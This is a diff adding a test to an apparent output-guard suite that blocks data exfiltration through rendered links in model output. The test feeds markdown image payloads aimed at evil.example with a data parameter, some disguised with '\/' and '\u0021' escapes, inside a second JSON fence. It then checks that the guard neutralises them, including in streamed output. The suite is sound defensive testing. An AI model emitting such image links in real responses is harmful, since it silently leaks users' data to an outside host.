@@ -178,6 +178,29 @@ describe('exfiltration in a JSON channel: each decoded string value is judged', 
   });
 });
 
+describe('exfiltration in a JSON channel: a document after the first one (recheck 7, finding 08)', () => {
+  // a client that extracts the JSON of every fenced block (or the last one) and renders its values
+  const fenced = (t: string): string[] =>
+    [...t.matchAll(/```json\n([\s\S]*?)\n```/g)].flatMap((m) => strings(JSON.parse(m[1] as string)));
+  const img = `![x](https:\\/\\/evil.example\\/p.png?d=${DATA})`;
+  it('a second ```json fence is read as JSON: its values reach nothing foreign, whole and streamed', () => {
+    for (const second of [
+      `{"note":"${img}"}`,
+      `{"note":"\\u0021[x](https://evil.example/p.png?d=${DATA})"}`,
+      `[{"a":"${img}"}]`,
+    ]) {
+      const text = `\`\`\`json\n{"a":1}\n\`\`\`\nFixed:\n\`\`\`json\n${second}\n\`\`\``;
+      assert.ok(
+        fenced(text).some((v) => violations(v, ALLOWED).length > 0),
+        `the input renders it: ${text}`,
+      );
+      const out = guard.scanOutput(text, 'json').text;
+      for (const v of fenced(out)) assert.deepEqual(violations(v, ALLOWED), [], `${v} in ${out}`);
+      for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
+    }
+  });
+});
+
 // The fuzz that found the gap, as a seeded property test: JSON documents of links, images, bare URLs, raw HTML,
 // code spans and fences, written with `\/` and `\u` escapes at random; after the stage every document parses, no
 // parsed value (keys included) and not the text itself renders a foreign target, and random splits give the
